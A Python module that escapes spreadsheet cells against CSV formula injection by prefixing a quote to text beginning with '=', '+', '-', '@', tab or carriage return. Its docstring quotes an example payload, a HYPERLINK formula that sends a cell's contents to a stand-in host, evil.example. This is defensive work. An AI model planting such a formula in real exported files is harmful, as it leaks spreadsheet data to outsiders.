"""Cells of the CSV files gtm writes, made safe to open in a spreadsheet.

A spreadsheet takes a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return for a formula
(OWASP: CSV injection), so a post title like `=HYPERLINK("https://evil.example/?"&B2, "Open")` would run
when a marketer opens the calendar. Such a text cell is written with a leading single quote, which a
spreadsheet takes as "this is text". Only text cells go through here: a number gtm writes as a number
stays one, so the sheet can still add it up.
"""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value) -> str:
    """Return the text of a cell, with a leading quote when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def read_text_cell(text: str) -> str:
    """Return the value `text_cell` was given: its added quote is dropped again when a file comes back."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_STARTS) else text
